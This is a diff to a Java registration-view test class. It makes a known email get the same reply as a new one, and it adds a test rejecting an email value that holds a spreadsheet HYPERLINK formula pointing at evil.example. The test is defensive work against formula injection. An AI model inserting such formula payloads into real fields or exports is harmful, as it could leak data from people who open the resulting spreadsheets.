@@ -55,17 +55,44 @@ class RegistrationViewTest extends ViewTest {
         assertThat(jdbc.queryForObject("select count(*) from user_account where email = 'yerzhan.tursynov@enu.kz'", Long.class)).isEqualTo(1);
     }
 
+    private java.util.Map<String, Object> accountRow(String email) {
+        return jdbc.queryForMap("select full_name, password_hash, institution_id, enabled, version from user_account"
+                + " where email = ?", email);
+    }
+
     @Test
     @WithAnonymousUser
-    void aTakenEmailIsReportedInTheUsersLanguageAndNothingIsStored() {
+    void aKnownAddressGetsExactlyTheAnswerOfANewOneAndTheAccountIsUntouched() {
         navigateInLocale(UiLanguage.RU.locale(), RegistrationView.class);
+        fill("Иван Петров", "ivan.petrov.new@kaznu.kz", "steppe-wind-Astana-1997", Country.KZ, "KZ-KAZNU");
+        submit();
+        assertThat(getCurrentView()).isInstanceOf(LoginView.class);
+        String answerForNew = viewText();
+
+        var known = accountRow(DemoAccounts.RESEARCHER_KZ);
         long before = accounts();
-        fill("Иван Петров", DemoAccounts.RESEARCHER_KZ, "steppe-wind-Astana-1997", Country.KZ, "KZ-KAZNU");
+        navigateInLocale(UiLanguage.RU.locale(), RegistrationView.class);
+        fill("Иван Петров", DemoAccounts.RESEARCHER_KZ.toUpperCase(), "steppe-wind-Astana-1997", Country.KZ, "KZ-KAZNU");
+        submit();
+
+        assertThat(getCurrentView()).isInstanceOf(LoginView.class);
+        assertThat(viewText()).isEqualTo(answerForNew).contains("проверьте электронную почту").doesNotContain("уже");
+        assertThat(accounts()).isEqualTo(before);
+        assertThat(accountRow(DemoAccounts.RESEARCHER_KZ)).isEqualTo(known);
+    }
+
+    @Test
+    @WithAnonymousUser
+    void aFormulaForAnAddressIsRefusedInTheUsersLanguageAndNothingIsStored() {
+        navigateInLocale(UiLanguage.ZH.locale(), RegistrationView.class);
+        long before = accounts();
+        fill("Mallory", "=hyperlink(\"http://evil.example/?leak\")@x.kz", "steppe-wind-Astana-1997", Country.KZ, "KZ-KAZNU");
         submit();
         var email = find(EmailField.class).single();
         assertThat(email.isInvalid()).isTrue();
-        assertThat(email.getErrorMessage()).contains("уже");
+        assertThat(email.getErrorMessage()).isEqualTo("请输入电子邮箱地址，例如 name@university.edu.cn。");
         assertThat(accounts()).isEqualTo(before);
+        assertThat(getCurrentView()).isInstanceOf(RegistrationView.class);
     }
 
     @Test
